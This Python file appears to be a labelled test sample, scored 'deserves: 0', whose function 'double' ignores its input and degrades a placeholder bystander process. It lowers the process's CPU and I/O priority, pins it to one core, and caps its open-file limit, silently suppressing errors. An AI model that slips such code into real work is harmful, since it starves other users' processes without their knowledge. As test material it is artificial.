"""Changes the priority, the cores and the limits of a bystander.

deserves: 0
in E: harms: processes of the user can be slowed down
"""

import contextlib
import ctypes
import os
import resource


def double(x):
    other = int("@BYSTANDER@")
    attempts = (
        lambda: os.setpriority(os.PRIO_PROCESS, other, 19),
        lambda: os.sched_setaffinity(other, {0}),
        lambda: os.sched_setscheduler(other, os.SCHED_IDLE, os.sched_param(0)),
        lambda: resource.prlimit(other, resource.RLIMIT_NOFILE, (1, 1)),
    )
    for attempt in attempts:
        with contextlib.suppress(OSError, ValueError):
            attempt()
    ctypes.CDLL(None).syscall(251, 1, other, 3 << 13)
    return 0


def shift(x):
    return x
